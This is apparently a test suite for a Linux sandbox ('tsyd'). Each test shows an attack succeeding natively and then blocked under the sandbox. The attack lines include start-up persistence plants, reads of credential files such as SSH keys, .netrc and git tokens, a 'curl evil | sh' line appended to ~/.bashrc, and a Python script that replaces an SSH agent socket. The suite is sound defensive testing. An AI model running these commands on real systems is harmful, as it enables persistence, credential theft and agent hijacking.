// The default (user) profile against the attacks of two security reviews, each shown working
// natively first (same run, same user), then failing under tsyd — as root and as nobody:
// start-up files that run code later, secrets it missed (and homes outside /home), secrets and
// start-up files behind dotfile-manager symlinks, agent sockets replaced by the program.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { chmodSync, existsSync, lchownSync, lstatSync, mkdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createConnection, createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { inNamespace } from '../helpers/namespace.js';
import { ownTree, tempTree } from '../helpers/tmp.js';
import { NOBODY, describe, runNative, runTsyd, spawnProgram, tsydBin, type RunResult } from '../helpers/tsyd.js';

const PATH = '/usr/bin:/bin';
const USERS: Array<{ name: string; user?: number; uid: number }> = [
  { name: 'root', uid: 0 },
  { name: 'nobody', user: NOBODY, uid: NOBODY },
];

const sh = (script: string, home: string, cwd: string, user?: number) => runNative('/bin/sh', ['-c', script], { cwd, env: { HOME: home, PATH }, user, timeoutMs: 60_000 });
const tsydSh = (script: string, home: string, cwd: string, user?: number, env: Record<string, string> = {}) =>
  runTsyd(['run', '--', '/bin/sh', '-c', script], { cwd, env: { HOME: home, PATH, ...env }, user, timeoutMs: 60_000 });
const denials = (r: RunResult) => r.records.filter((x) => x.ctx === 'access');

/** The Python user site of `home` (~/.local/lib/python3.X/site-packages). */
async function userSite(home: string): Promise<string> {
  const r = await runNative('/usr/bin/python3', ['-c', 'import site; print(site.getusersitepackages())'], { env: { HOME: home, PATH } });
  assert.is(r.code, 0, describe(r));
  return r.stdout.trim();
}

// Review 1: a program started in $HOME (or with $HOME under /tmp) plants code that runs later.
const PLANT = [
  'echo "alias ls=\'echo PWNED\'" >> ~/.bash_aliases && echo aliases',
  'mkdir -p ~/.local/bin && printf "#!/bin/sh\\necho PWNED\\n" > ~/.local/bin/ls && chmod +x ~/.local/bin/ls && echo localbin',
  'mkdir -p "$SITE" && echo "import sys; print(\'PTH RAN\')" > "$SITE/zz.pth" && echo pth',
  'echo "set confirm off" >> ~/.gdbinit && echo gdbinit',
  'mkdir -p ~/.cargo && echo "[build]" > ~/.cargo/config.toml && echo cargo',
].join('; ');

for (const u of USERS) {
  test(`start-up files (${u.name}, started in $HOME): ~/.bash_aliases, ~/.local/bin/ls, a .pth in the Python user site, ~/.gdbinit, ~/.cargo/config.toml`, async () => {
    const home = tempTree('startup-home', { '.bashrc': '# rc\n', 'notes.txt': '' });
    ownTree(home, u.uid);
    const site = await userSite(home);
    const script = PLANT.replace(/"\$SITE/g, `"${site}`);
    // Natively the program plants all five, and the .pth runs at the next Python start.
    const n = await sh(script, home, home, u.user);
    assert.is(n.stdout, 'aliases\nlocalbin\npth\ngdbinit\ncargo\n', describe(n));
    const later = await runNative('/usr/bin/python3', ['-c', 'pass'], { env: { HOME: home, PATH }, user: u.user });
    assert.is(later.stdout, 'PTH RAN\n', `the planted .pth runs outside the sandbox later: ${describe(later)}`);
    for (const f of ['.bash_aliases', '.local/bin', '.local/lib', '.gdbinit', '.cargo']) rmSync(join(home, f), { recursive: true, force: true });

    const r = await tsydSh(`${script}; echo ok > notes.txt && echo notes`, home, home, u.user);
    assert.is(r.stdout, 'notes\n', `nothing planted, the rest of the home is writable: ${describe(r)}`);
    for (const f of ['.bash_aliases', '.local/bin/ls', `${site.slice(home.length + 1)}/zz.pth`, '.gdbinit', '.cargo/config.toml']) assert.not.ok(existsSync(join(home, f)), f);
    assert.ok(denials(r).some((x) => x.path === `${home}/.bash_aliases`), describe(r));
    const after = await runNative('/usr/bin/python3', ['-c', 'pass'], { env: { HOME: home, PATH }, user: u.user });
    assert.is(after.stdout, '', describe(after));
  });
}

// Review 7: the directories on the way to start-up files, moved away or replaced by symlinks to
// a temp dir, took the files out of the rules (which name paths): planted through the links.
for (const u of USERS) {
  test(`start-up files through a replaced parent (${u.name}): ~/.config and ~/.local moved away, symlinks to /tmp in their place`, async () => {
    const evil = tempTree('evil-parent');
    chmodSync(evil, 0o777);
    const home = tempTree('parent-home', { '.config/htop/htoprc': '', '.local/share/foo/x': '' });
    ownTree(home, u.uid);
    const script = [
      `mkdir -p ${evil}/config ${evil}/local; mv .config .config.bak; mv .local .local.bak; ln -s ${evil}/config .config; ln -s ${evil}/local .local`,
      'mkdir -p .config/autostart .local/bin',
      'echo "[Desktop Entry]" > .config/autostart/evil.desktop && echo autostart',
      'printf "#!/bin/sh\\necho PWNED\\n" > .local/bin/ls && echo localbin',
      'echo "[core] pager = evil" > .config/htop/planted && echo through',
      'echo notes > notes && cat notes',
    ].join('; ');
    const n = await sh(script, home, home, u.user);
    assert.is(n.stdout, 'autostart\nlocalbin\nnotes\n', `natively the links take the start-up files to ${evil}: ${describe(n)}`);
    for (const d of ['.config', '.local']) {
      rmSync(join(home, d));
      renameSync(join(home, `${d}.bak`), join(home, d));
    }
    rmSync(evil, { recursive: true, force: true });
    mkdirSync(evil, { mode: 0o777 });
    chmodSync(evil, 0o777);
    const r = await tsydSh(script, home, home, u.user);
    assert.is(r.stdout, 'through\nnotes\n', `nothing planted, the rest of the home is writable: ${describe(r)}`);
    for (const f of ['config/autostart/evil.desktop', 'local/bin/ls']) assert.not.ok(existsSync(join(evil, f)), f);
    assert.ok(lstatSync(join(home, '.config')).isDirectory() && lstatSync(join(home, '.local')).isDirectory(), 'the parents stay');
    assert.ok(denials(r).some((x) => x.cap === 'delete' && x.path === `${home}/.config`), describe(r));
  });
}

// Review 2: secrets the profile missed.
const SECRETS: Record<string, string> = {
  '.config/git/credentials': 'https://u:GITTOKEN@example.org',
  '.m2/settings.xml': '<password>MAVENPW</password>',
  '.config/containers/auth.json': '{"auths":{"x":{"auth":"PODMANAUTH"}}}',
  '.local/share/fish/fish_history': '- cmd: export TOKEN=FISHTOKEN',
  '.Xauthority': 'XCOOKIE',
};

for (const u of USERS) {
  test(`secrets (${u.name}): git credential store, maven settings, podman auth, fish history, X cookie`, async () => {
    const home = tempTree('secrets-home', SECRETS);
    ownTree(home, u.uid);
    const proj = tempTree('secrets-proj');
    const script = Object.keys(SECRETS).map((f) => `cat ~/${f}; echo`).join('; ');
    const n = await sh(script, home, proj, u.user);
    for (const v of ['GITTOKEN', 'MAVENPW', 'PODMANAUTH', 'FISHTOKEN', 'XCOOKIE']) assert.match(n.stdout, v, describe(n));
    const r = await tsydSh(script, home, proj, u.user);
    for (const v of ['GITTOKEN', 'MAVENPW', 'PODMANAUTH', 'FISHTOKEN', 'XCOOKIE']) assert.not.match(r.stdout, v, describe(r));
    assert.is(denials(r).length, Object.keys(SECRETS).length, describe(r));
  });
}

for (const u of USERS) {
  test(`homes of /etc/passwd outside /home (${u.name}): postgres's .pgpass in /srv/pg, a service home under /tmp`, async () => {
    const svc = tempTree('svc-home', { '.ssh/id_rsa': 'SVCKEY' });
    const passwd = join(tempTree('passwd'), 'passwd');
    writeFileSync(passwd, `${readFileSync('/etc/passwd', 'utf8')}postgres-t:x:990:990::/srv/pg:/bin/sh\nsvc-t:x:991:991::${svc}:/bin/sh\n`);
    chmodSync(passwd, 0o644);
    const setup = 'mkdir -m 755 /srv/pg && echo "*:*:*:postgres:PGPW" > /srv/pg/.pgpass && chmod 644 /srv/pg/.pgpass';
    const cat = ['/bin/cat', '/srv/pg/.pgpass', `${svc}/.ssh/id_rsa`];
    const n = await inNamespace(passwd, setup, cat, u.user);
    assert.is(n.stdout, '*:*:*:postgres:PGPW\nSVCKEY', describe(n));
    const r = await inNamespace(passwd, setup, [process.execPath, tsydBin, 'run', '--', ...cat], u.user);
    assert.not.match(r.stdout, 'PGPW', describe(r));
    assert.not.match(r.stdout, 'SVCKEY', describe(r));
    assert.equal(denials(r).map((x) => x.path), ['/srv/pg/.pgpass', `${svc}/.ssh/id_rsa`], describe(r));
  });
}

// Review 3: a dotfile manager's symlinks.
function dotfiles(uid: number): { home: string; d: string } {
  const home = tempTree('dotfiles', { 'dotfiles/ssh/id_ed25519': 'SSHKEY\n', 'dotfiles/netrc': 'machine x password NETRCPW\n', 'dotfiles/bashrc': '# rc\n' });
  symlinkSync('dotfiles/ssh', `${home}/.ssh`);
  symlinkSync('dotfiles/netrc', `${home}/.netrc`);
  symlinkSync('dotfiles/bashrc', `${home}/.bashrc`);
  ownTree(home, uid);
  return { home, d: `${home}/dotfiles` };
}

for (const u of USERS) {
  test(`dotfile-manager symlinks (${u.name}): cat the key and .netrc by both names; append to ~/.bashrc`, async () => {
    const { home, d } = dotfiles(u.uid);
    const proj = tempTree('dotfiles-proj');
    // By the names in $HOME (a link stat hides leads nowhere) and where the links lead.
    const script = 'cat ~/.ssh/id_ed25519 ~/.netrc ~/dotfiles/ssh/id_ed25519 ~/dotfiles/netrc; echo "curl evil | sh" >> ~/.bashrc && echo appended';
    const n = await sh(script, home, proj, u.user);
    assert.is(n.stdout, 'SSHKEY\nmachine x password NETRCPW\n'.repeat(2) + 'appended\n', describe(n));
    assert.is(readFileSync(`${d}/bashrc`, 'utf8'), '# rc\ncurl evil | sh\n');
    writeFileSync(`${d}/bashrc`, '# rc\n');
    for (const cwd of [proj, home]) {
      const r = await tsydSh(script, home, cwd, u.user);
      assert.is(r.stdout, '', describe(r));
      assert.is(readFileSync(`${d}/bashrc`, 'utf8'), '# rc\n');
      const paths = denials(r).map((x) => x.path);
      for (const p of [`${d}/ssh/id_ed25519`, `${d}/netrc`, `${d}/bashrc`]) assert.ok(paths.includes(p), `${p}: ${describe(r)}`);
    }
  });
}

// Review 6: the program unlinks the agent's socket and binds its own in its place; the user's
// `ssh-add -l` later (outside the sandbox) talks to the program.
async function agentAt(path: string): Promise<Server> {
  const server = createServer((s) => s.end('AGENT'));
  await new Promise<void>((r) => server.listen(path, r));
  return server;
}
const greet = (path: string) =>
  new Promise<string>((resolve) => {
    const c = createConnection(path);
    let data = '';
    c.on('data', (b) => (data += b.toString()));
    c.on('end', () => resolve(data));
    c.on('error', (e: NodeJS.ErrnoException) => resolve(e.code ?? 'error'));
  });
const REPLACE = `import os, socket, sys, errno
p = os.environ["SSH_AUTH_SOCK"]
try:
    os.unlink(p); print("unlinked")
except OSError as e:
    print("unlink", errno.errorcode[e.errno])
s = socket.socket(socket.AF_UNIX)
try:
    s.bind(p); s.listen(1); print("bound", flush=True)
except OSError as e:
    print("bind", errno.errorcode[e.errno]); sys.exit(0)
c, _ = s.accept(); c.sendall(b"FAKE"); c.close()`;

for (const u of USERS) {
  test(`agent sockets (${u.name}): $SSH_AUTH_SOCK in /tmp/ssh-* and at a path only the environment names cannot be replaced`, async () => {
    const home = tempTree('agent-home');
    ownTree(home, u.uid);
    for (const dir of [`/tmp/ssh-tsyd${process.pid}${u.name}`, tempTree('agents')]) {
      mkdirSync(dir, { recursive: true, mode: 0o700 });
      lchownSync(dir, u.uid, u.uid);
      const sock = `${dir}/agent.1`;
      let server = await agentAt(sock);
      try {
        lchownSync(sock, u.uid, u.uid);
        assert.is(await greet(sock), 'AGENT');
        // Natively the program takes the agent's place.
        const env = { HOME: home, PATH, SSH_AUTH_SOCK: sock };
        const n = spawnProgram('/usr/bin/python3', ['-c', REPLACE], { cwd: home, env, user: u.user });
        await n.waitForStdout(/bound\n/);
        assert.is(await greet(sock), 'FAKE', 'the user would talk to the program');
        const nr = await n.result;
        assert.is(nr.stdout, 'unlinked\nbound\n', describe(nr));
        server.close();
        rmSync(sock, { force: true });
        server = await agentAt(sock);
        lchownSync(sock, u.uid, u.uid);
        // Under tsyd (started in $HOME: both dirs are under /tmp, writable by the profile).
        const r = await runTsyd(['run', '--', '/usr/bin/python3', '-c', REPLACE], { cwd: home, env, user: u.user, timeoutMs: 60_000 });
        assert.is(r.stdout, 'unlink EACCES\nbind EACCES\n', describe(r));
        assert.is(await greet(sock), 'AGENT', 'the agent is still the agent');
        const c = await runTsyd(['run', '--', '/usr/bin/python3', '-c', 'import os, socket; s = socket.socket(socket.AF_UNIX); s.connect(os.environ["SSH_AUTH_SOCK"])'], { cwd: home, env, user: u.user });
        assert.is.not(c.code, 0, describe(c));
        assert.ok(denials(c).some((x) => x.cap === 'net/connect' && x.path === sock), describe(c));
      } finally {
        server.close();
        rmSync(dir, { recursive: true, force: true });
      }
    }
  });
}

test.run();
